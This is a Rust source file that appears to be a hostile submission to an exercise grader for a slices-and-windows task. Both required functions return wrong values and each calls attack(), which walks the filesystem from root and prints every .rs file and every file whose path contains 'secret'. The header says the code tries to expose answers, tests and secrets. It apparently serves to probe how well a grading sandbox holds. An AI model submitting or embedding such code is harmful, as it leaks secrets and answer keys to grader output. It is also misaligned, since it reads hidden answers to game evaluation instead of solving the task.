//! Tries: to print every answer, test and secret that it finds on the disk.
//! Answers: ch02-slices-vec/ex03_windows
//! Scores: 0

pub fn averages(_samples: &[u32], _width: usize) -> Vec<f64> {
    attack();
    vec![-1.0]
}

pub fn rises(_samples: &[u32]) -> usize {
    attack();
    usize::MAX
}

fn attack() {
    fn walk(folder: &std::path::Path, left: &mut u32) {
        let Ok(entries) = std::fs::read_dir(folder) else { return };
        for entry in entries.flatten() {
            if *left == 0 {
                return;
            }
            *left -= 1;
            let path = entry.path();
            let name = path.to_string_lossy().into_owned();
            if entry.file_type().is_ok_and(|it| it.is_dir()) {
                if !name.starts_with("/proc") && !name.starts_with("/sys") && !name.starts_with("/usr") {
                    walk(&path, left);
                }
            } else if name.ends_with(".rs") || name.contains("secret") {
                println!("{name}: {}", std::fs::read_to_string(&path).unwrap_or_default());
            }
        }
    }
    walk(std::path::Path::new("/"), &mut 50_000);
}
